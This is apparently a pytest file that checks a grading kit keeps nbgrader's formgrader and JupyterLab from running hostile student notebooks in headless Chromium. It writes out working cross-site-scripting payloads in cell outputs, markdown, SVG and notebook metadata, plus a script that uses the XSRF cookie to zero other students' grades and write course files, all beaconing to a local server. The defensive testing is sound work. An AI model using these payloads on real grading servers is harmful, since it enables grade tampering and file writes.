"""Formgrader is as safe as `bpkit grade` (issue 19), in the real clients:
nbgrader's formgrader in a Jupyter server, driven by headless Chromium.

A class with honest students and attackers is graded by clicking
formgrader's Autograde button for each student, then Generate Feedback.
The attackers' submissions carry script and requests in every place a
browser could run them: a correct softmax cell whose output displays a
``<script>`` calling formgrader's API (every other student's manual scores
set to 0) and Jupyter's contents API (a file written into the course),
markdown with event handlers, ``<iframe srcdoc>``, ``javascript:`` links,
``<form action>``, ``<meta http-equiv=refresh>``, CSS ``url()``, a tracking
image, SVG with script (output and attachment), and hostile notebook, cell
and output metadata.  Each payload marks the page (``data-pwned``) and
calls a beacon server on 127.0.0.1 if it runs.  Then the instructor opens
formgrader's submission list, each attacker's manual-grading view and the
graded notebook in JupyterLab: no payload runs, no request reaches the
beacon, no score or course file changes, the scores equal `bpkit grade`'s,
nothing ran outside the sandbox, feedback folders hold only pages.
Screenshots go to artifacts/."""
from __future__ import annotations

import hashlib
import http.server
import json
import os
import re
import socket
import subprocess
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import nbformat
import pytest

import course_facts as facts
from bpkit.course import Course
from bpkit.grading.records import JUDGE_FILE
from bpkit.pipeline import grade_assignment
from bpkit.sample import student_cells, write_submission
from browser import ARTIFACTS, chromium_driver
from conftest import VENV_BIN, copy_course

CH4, NB4 = "ch4_gradients", "losses_and_gradients"
HONEST = ["aoki", "goto"]
ATTACKERS = ["script_output", "markdown_markup", "svg_and_metadata"]
ESCAPE = Path(f"/tmp/bpkit-formgrader-escape-{uuid.uuid4().hex}")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


BEACON_PORT = free_port()
BEACON = f"http://127.0.0.1:{BEACON_PORT}"


def mark(how: str) -> str:
    """JavaScript that marks the page and calls the beacon: proof it ran."""
    return (f"window.PWNED='{how}';document.documentElement.setAttribute('data-pwned','{how}');"
            f"(new Image()).src='{BEACON}/{how}'")


def api_attack(attacker: str) -> str:
    """What the stored script of the issue did: every other student's manual
    scores set to 0 through formgrader's API, a file written into the course
    through Jupyter's contents API."""
    return ("(async()=>{" + mark("script-" + attacker) + ";"
            "const x=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||['',''])[1]);"
            "const h={'X-XSRFToken':x,'Content-Type':'application/json'};"
            f"const nbs=await(await fetch('/formgrader/api/submitted_notebooks/{CH4}/{NB4}')).json();"
            "for(const nb of nbs){if(nb.student==='" + attacker + "')continue;"
            "const gs=await(await fetch('/formgrader/api/grades?submission_id='+nb.id)).json();"
            "for(const g of gs){await fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,"
            "body:JSON.stringify({manual_score:0})});}}"
            "await fetch('/api/contents/written-by-a-student.txt',{method:'PUT',headers:h,"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});})()")


SOFTMAX = '''
import numpy as np
from IPython.display import HTML, SVG, Javascript, display


def softmax(x):
    c = np.max(x, axis=-1, keepdims=True)
    e = np.exp(x - c)
    return e / np.sum(e, axis=-1, keepdims=True)

'''


def script_output_cells() -> dict:
    attack = api_attack("script_output")
    code = SOFTMAX + f'''
try:
    open("{ESCAPE}", "w").write("ran outside the sandbox")
except OSError:
    pass
display(HTML("<b>softmax done</b><script>" + {attack!r} + "</script>"))
display(HTML("<img src=x onerror=\\"" + {mark("html-onerror")!r} + "\\">"))
display(Javascript({mark("javascript-output")!r}))
display({{"text/html": "<script>" + {mark("isolated")!r} + "</script>"}}, metadata={{"text/html": {{"isolated": True}}}},
        raw=True)
display({{"text/markdown": "[md](javascript:" + {mark("markdown-output")!r} + ")"}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "m", "version_major": 2, "version_minor": 0}},
         "text/plain": "widget"}}, raw=True)
'''
    return {**student_cells("aoki"), "softmax": code}


MARKDOWN_ATTACKS = f"""## Notes <script>{mark('md-script')}</script>

<img src=x onerror="{mark('md-img-onerror')}">

<iframe srcdoc="<script>{mark('md-iframe-srcdoc').replace("'", "&#39;")}</script>"></iframe>

<a id="bpkit-js-link" href="javascript:{mark('md-js-link')}">click me</a>
and [a markdown link](javascript:{mark('md-js-markdown-link')})

<form action="{BEACON}/md-form"><button id="bpkit-form-button">send</button></form>

<meta http-equiv="refresh" content="0;url={BEACON}/md-meta-refresh">

<p style="background-image:url({BEACON}/md-css-style-attribute)">styled</p>
<style>body {{ background-image: url({BEACON}/md-css-style-element) }}</style>

<img src="{BEACON}/md-tracking-image">

<svg><script>{mark('md-inline-svg-script')}</script></svg>
<details open ontoggle="{mark('md-details-ontoggle')}">x</details>
<object data="javascript:{mark('md-object')}"></object>

The math still renders: $y_k = \\frac{{\\exp(a_k)}}{{\\sum_i \\exp(a_i)}}$.
"""


def markdown_markup_cells() -> dict:
    return {**student_cells("aoki"), "softmax +markdown": MARKDOWN_ATTACKS}


SVG_SCRIPT = (f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"{mark('svg-onload')}\">"
              f"<script>{mark('svg-script')}</script><rect width='40' height='40'/></svg>")


def svg_and_metadata_cells() -> dict:
    code = SOFTMAX + f"display(SVG({SVG_SCRIPT!r}))\n"
    return {**student_cells("aoki"), "softmax": code,
            "softmax +markdown": "An attached figure: ![figure](attachment:figure.svg)"}


def plant_metadata(folder: Path) -> None:
    """Hostile notebook, cell and attachment metadata in the submission."""
    path = folder / f"{NB4}.ipynb"
    nb = nbformat.read(path, as_version=4)
    nb.metadata["title"] = f"</title><script>{mark('notebook-title')}</script>"
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "html": f"</script><script>{mark('widget-state')}</script>"}}
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": f"\"><script>{mark('lexer')}</script>"}
    for cell in nb.cells:
        cell.metadata["tags"] = ["x\" onmouseover=\"window.PWNED='cell-tag'"]  # no comma: nbformat's schema
        cell.metadata["slideshow"] = {"slide_type": f"<script>{mark('slideshow')}</script>"}
        if cell.cell_type == "markdown" and "attachment:figure.svg" in cell.source:
            import base64

            cell["attachments"] = {"figure.svg": {"image/svg+xml": base64.b64encode(SVG_SCRIPT.encode()).decode()}}
    nbformat.write(nb, path)


def build_class(root: Path) -> Path:
    copy_course(root)
    cells = {"aoki": student_cells("aoki"), "goto": student_cells("goto"), "script_output": script_output_cells(),
             "markdown_markup": markdown_markup_cells(), "svg_and_metadata": svg_and_metadata_cells(),
             "renamer": student_cells("aoki")}
    for student, answers in cells.items():
        folder = root / "submitted" / student / CH4
        write_submission(root / "release", CH4, answers, folder)
        (folder / "timestamp.txt").write_text("2026-01-09 10:00:00.000000 UTC", encoding="utf-8")
    plant_metadata(root / "submitted" / "svg_and_metadata" / CH4)
    renamed = root / "submitted" / "renamer" / CH4
    (renamed / f"{NB4}.ipynb").rename(renamed / "my_copy.ipynb")
    Course(root).ensure_in_gradebook(CH4)
    return root


def gradebook_state(root: Path) -> dict:
    """Every student's every grade: auto, manual, extra credit, score."""
    state = {}
    with Course(root).gradebook() as gb:
        for submission in gb.assignment_submissions(CH4):
            state[submission.student.id] = {g.name: (g.auto_score, g.manual_score, g.extra_credit, g.score)
                                            for nb in submission.notebooks for g in nb.grades}
    return state


def course_files(root: Path) -> dict:
    """sha256 of the course's own files and every submission; the list of top-level names."""
    files = [root / "nbgrader_config.py", *[p for top in ("source", "release", "submitted")
                                            for p in (root / top).rglob("*") if p.is_file()]]
    found = {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}
    found["(top level)"] = sorted(p.name for p in root.iterdir())
    return found


class Beacon(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        Beacon.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def beacon():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", BEACON_PORT), Beacon)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Beacon.hits
    server.shutdown()


@pytest.fixture(scope="module")
def reference(tmp_path_factory):
    """The same class graded by `bpkit grade`'s own function."""
    root = build_class(tmp_path_factory.mktemp("reference") / "course")
    grade_assignment(Course(root), CH4, workers=2, feedback=False, log=lambda m: None)
    return gradebook_state(root)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A Jupyter server with formgrader and JupyterLab, serving the class."""
    root = build_class(tmp_path_factory.mktemp("formgrader") / "course")
    port, token = free_port(), "bpkit-test-token"
    env = dict(os.environ, PATH=os.pathsep.join([str(VENV_BIN), os.environ.get("PATH", "")]),
               JUPYTER_CONFIG_DIR=str(root.parent / ".jupyter-config"), JUPYTER_RUNTIME_DIR=str(root.parent / ".run"))
    log = open(root.parent / "server.log", "w")
    process = subprocess.Popen(
        [str(VENV_BIN / "jupyter"), "lab", "--no-browser", "--allow-root", f"--port={port}", "--ip=127.0.0.1",
         f"--ServerApp.token={token}", f"--ServerApp.root_dir={root}",
         "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True, 'jupyterlab': True}"],
        cwd=root, env=env, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(240):
            try:
                urllib.request.urlopen(f"{base}/formgrader/manage_assignments?token={token}", timeout=2)
                break
            except OSError:
                time.sleep(0.5)
        else:
            pytest.fail("formgrader did not start")
        yield {"base": base, "token": token, "root": root, "log": root.parent / "server.log"}
    finally:
        process.terminate()
        process.wait(timeout=60)
        log.close()


@pytest.fixture(scope="module")
def driver():
    browser = chromium_driver()
    yield browser
    browser.quit()


def pwned(driver) -> str | None:
    return driver.execute_script("return document.documentElement.getAttribute('data-pwned') || window.PWNED || null")


def shot(driver, name: str) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / name
    assert driver.save_screenshot(str(path))
    return path


def wait_for(driver, script: str, seconds: float = 120):
    """Poll a condition in the page (bounded: a generous limit, no verdict on time)."""
    for _ in range(int(seconds * 4)):
        value = driver.execute_script(script)
        if value:
            return value
        time.sleep(0.25)
    pytest.fail(f"never true in the page: {script}")


def click_in_row(driver, student: str, button: str) -> str:
    """Click formgrader's per-student button (autograde, generate-feedback) in
    Manage Submissions and return the text of the dialog it opens (closed after)."""
    row = ("return Array.from(document.querySelectorAll('tbody tr')).find("
           f"r => (r.querySelector('.student-id') || {{}}).innerText === '{student}')")
    wait_for(driver, row + " !== undefined")
    driver.execute_script(row + f".querySelector('.{button} a').click()")
    text = wait_for(driver, "const m = document.querySelector('.modal.in'); return m && m.innerText", seconds=900)
    driver.execute_script("document.querySelectorAll('.modal.in button').forEach(b => b.click())")
    wait_for(driver, "return !document.querySelector('.modal.in') && !document.querySelector('.modal-backdrop')")
    return text


@pytest.fixture(scope="module")
def clicked(server, driver, beacon):
    """Autograde, then Generate Feedback, clicked for every student in formgrader."""
    base, token = server["base"], server["token"]
    driver.get(f"{base}/formgrader?token={token}")
    driver.get(f"{base}/formgrader/manage_submissions/{CH4}")
    dialogs = {}
    for student in sorted(HONEST + ATTACKERS + ["renamer"]):
        dialogs[student] = click_in_row(driver, student, "autograde")
    driver.refresh()
    wait_for(driver, "return document.querySelectorAll('tbody tr .student-id').length >= 6")
    listed = driver.execute_script("return document.querySelector('table').innerText")
    shot(driver, "formgrader-manage-submissions.png")
    return {"dialogs": dialogs, "listed": listed, "graded": gradebook_state(server["root"]),
            "before": course_files(server["root"]), "escaped": ESCAPE.exists()}


def test_does_the_autograde_button_grade_as_bpkit_grade_does(clicked, server, reference):
    assert clicked["graded"] == reference
    assert not clicked["escaped"]  # the escape attempt in script_output ran in the sandbox, if at all
    for student in HONEST + ATTACKERS:
        assert "Successfully autograded" in clicked["dialogs"][student], clicked["dialogs"][student]
        assert (server["root"] / "autograded" / student / CH4 / JUDGE_FILE).is_file()
    assert "could not be graded" in clicked["dialogs"]["renamer"] and "my_copy.ipynb" in clicked["dialogs"]["renamer"]
    scores = {s: sum(g[3] for g in grades.values()) for s, grades in reference.items()}
    full = facts.total(CH4)
    assert scores["aoki"] == full and scores["renamer"] == 0 and all(scores[a] == full for a in ATTACKERS)


def test_does_formgrader_list_the_failed_submission_as_graded_not_waiting(clicked):
    row = next(line for line in clicked["listed"].splitlines() if "renamer" in line)
    assert "needs autograding" not in row.lower() and f"0 / {facts.total(CH4):g}" in row, row


#: Scroll to the first thing the grader made inert (a note), for the screenshot.
SHOW_WHAT_WAS_MADE_INERT = (
    "const all = Array.from(document.querySelectorAll('p, pre, .jp-RenderedText, .output_text'));"
    "const e = all.find(x => /shown as text|removed by the grader/.test(x.innerText));"
    "if (e) e.scrollIntoView({block: 'start'});")

VIEWS = [(attacker, view) for attacker in ATTACKERS for view in ("manual-grading", "lab")]


@pytest.mark.parametrize("attacker, view", VIEWS)
def test_does_no_payload_run_when_the_instructor_opens_a_submission(clicked, server, driver, beacon, attacker, view):
    base = server["base"]
    if view == "manual-grading":
        with Course(server["root"]).gradebook() as gb:
            submission_id = gb.find_submission_notebook(NB4, CH4, attacker).id
        driver.get(f"{base}/formgrader/submissions/{submission_id}/")
        wait_for(driver, "return document.readyState === 'complete' && !!document.querySelector('#notebook')")
        shown = driver.execute_script("return document.body.innerText")
        assert "Submission" in shown and "def softmax" in shown
    else:
        driver.get(f"{base}/lab/tree/autograded/{attacker}/{CH4}/{NB4}.ipynb")
        wait_for(driver, "return document.querySelectorAll('.jp-Notebook .jp-Cell').length > 5", seconds=180)
        wait_for(driver, "return !document.querySelector('.jp-Notebook .jp-mod-rendering')", seconds=60)
    for link in ("bpkit-js-link", "bpkit-form-button"):  # what a curious instructor might click
        driver.execute_script(f"const e = document.getElementById('{link}'); if (e) e.click();")
    driver.execute_script("document.querySelectorAll('[onmouseover]').forEach(e => e.dispatchEvent("
                          "new MouseEvent('mouseover')))")
    wait_for(driver, "return document.readyState === 'complete'")
    assert pwned(driver) is None  # on the view itself
    driver.execute_script(SHOW_WHAT_WAS_MADE_INERT)
    shot(driver, f"{'jupyterlab-autograded' if view == 'lab' else 'formgrader-manual-grading'}-{attacker}.png")
    driver.get(f"{base}/formgrader/manage_assignments")  # leave: anything in flight has had its chance
    wait_for(driver, "return document.readyState === 'complete'")
    assert pwned(driver) is None and beacon == []
    assert gradebook_state(server["root"]) == clicked["graded"]
    assert course_files(server["root"]) == clicked["before"]


def test_does_the_manual_grading_view_render_math_without_mathjax(clicked, server, driver):
    with Course(server["root"]).gradebook() as gb:
        submission_id = gb.find_submission_notebook(NB4, CH4, "markdown_markup").id
    with urllib.request.urlopen(f"{server['base']}/formgrader/submissions/{submission_id}/?token={server['token']}") \
            as response:
        page, policy = response.read().decode(), response.headers["Content-Security-Policy"]
        no_store = response.headers["Cache-Control"]
    assert "<math" in page and not re.search(r"<script[^>]*mathjax", page, re.IGNORECASE)
    assert "MathJax.Hub" not in page and "cdnjs" not in page
    assert "script-src" in policy and "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
    assert "/formgrader/static/" in policy and "object-src 'none'" in policy
    from bpkit.presentation.formgrader import template_part, view_policy

    # only nbgrader's template above the notebook is trusted inline: its scripts and handlers, by hash
    assert template_part(page) and policy == view_policy(page, policy.split("script-src ", 1)[1].split()[0])
    assert policy.count("'sha256-") >= 3 and no_store == "no-store"
    driver.get(f"{server['base']}/formgrader/submissions/{submission_id}/")
    wait_for(driver, "return document.readyState === 'complete'")
    heights = driver.execute_script("return Array.from(document.querySelectorAll('math')).map("
                                    "m => m.getBoundingClientRect().height)")
    assert heights and all(h > 0 for h in heights)
    # formgrader's own controls still work under the policy: its scripts put each auto score in its box
    filled = "return Array.from(document.querySelectorAll('input.score')).some(i => i.placeholder !== '')"
    try:
        wait_for(driver, filled)
    except pytest.fail.Exception:
        pytest.fail(f"formgrader's scripts did not fill in the scores: {driver.get_log('browser')}")
    assert "INERT" not in page and "shown as text" in page


def test_is_a_student_file_served_by_formgrader_sandboxed(clicked, server):
    folder = server["root"] / "autograded" / "markdown_markup" / CH4
    (folder / "page.html").write_text(f"<script>{mark('served-file')}</script>", encoding="utf-8")
    with Course(server["root"]).gradebook() as gb:
        submission_id = gb.find_submission_notebook(NB4, CH4, "markdown_markup").id
    url = f"{server['base']}/formgrader/submissions/{submission_id}/page.html?token={server['token']}"
    with urllib.request.urlopen(url) as response:
        policy = response.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox;") and "default-src 'none'" in policy
    (folder / "page.html").unlink()


def test_does_generate_feedback_leave_only_pages_and_touch_no_score(clicked, server, driver, beacon):
    driver.get(f"{server['base']}/formgrader/manage_submissions/{CH4}")
    for student in sorted(HONEST + ATTACKERS):
        assert "Successfully generated feedback" in click_in_row(driver, student, "generate-feedback")
    for student in HONEST + ATTACKERS:
        names = {p.name for p in (server["root"] / "feedback" / student / CH4).iterdir()}
        assert f"{NB4}.html" in names and names <= {f"{NB4}.html", "timestamp.txt", "submission_secret.txt"}, names
    page = (server["root"] / "feedback" / "script_output" / CH4 / f"{NB4}.html").read_text(encoding="utf-8")
    driver.get((server["root"] / "feedback" / "script_output" / CH4 / f"{NB4}.html").as_uri())
    wait_for(driver, "return document.readyState === 'complete'")
    assert pwned(driver) is None and "<script" not in page.lower()
    assert gradebook_state(server["root"]) == clicked["graded"] and beacon == []


def test_would_the_payloads_run_if_shown_unsanitised(tmp_path, driver, beacon):
    """The premise: the same payloads, rendered by stock nbconvert without
    the kit, run in this browser and call the beacon (so the checks above
    can fail)."""
    from nbconvert.exporters import HTMLExporter

    outputs = [nbformat.v4.new_output("display_data", data={"text/html": f"<script>{mark('control-script')}</script>"})]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=outputs),
                                         nbformat.v4.new_markdown_cell(f"<img src=x onerror=\"{mark('control-img')}\">")])
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    (tmp_path / "control.html").write_text(page, encoding="utf-8")
    before = len(beacon)
    driver.get((tmp_path / "control.html").as_uri())
    wait_for(driver, "return document.documentElement.getAttribute('data-pwned') !== null")
    wait_for(driver, "return true")
    for _ in range(40):
        if len(beacon) > before:
            break
        time.sleep(0.25)
    assert pwned(driver) in ("control-script", "control-img") and len(beacon) > before
    beacon.clear()
